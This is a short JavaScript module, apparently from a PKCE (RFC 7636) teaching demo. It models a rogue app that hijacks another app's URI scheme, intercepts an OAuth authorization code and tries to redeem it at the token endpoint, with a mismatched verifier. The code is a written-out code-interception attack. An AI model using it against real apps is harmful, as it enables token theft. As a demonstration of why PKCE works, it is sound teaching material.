// Photo Fun, an app of somebody else's: it registered the same scheme, and the phone
// gives it the answer first. It has all that travelled through the browser: the address,
// so the code, the state and the client_id. It lacks what never did. RFC 7636 §1

import { codeVerifier } from "../printshop_kiosk/pkce.js";
import { send } from "./radio.js";

// Tries to be Print Shop. The answers are the token endpoint's own.
export async function steal(address, metadata, clientId, withVerifier) {
  const [redirectUri, query] = address.split("?");
  const form = {
    grant_type: "authorization_code",
    client_id: clientId, // public, like everything that is packed into an app
    code: new URLSearchParams(query).get("code"),
    redirect_uri: redirectUri,
  };
  if (withVerifier) form.code_verifier = codeVerifier(); // a good one, but not the one
  return { form, ...(await send({ method: "POST", url: metadata.token_endpoint, form })) };
}
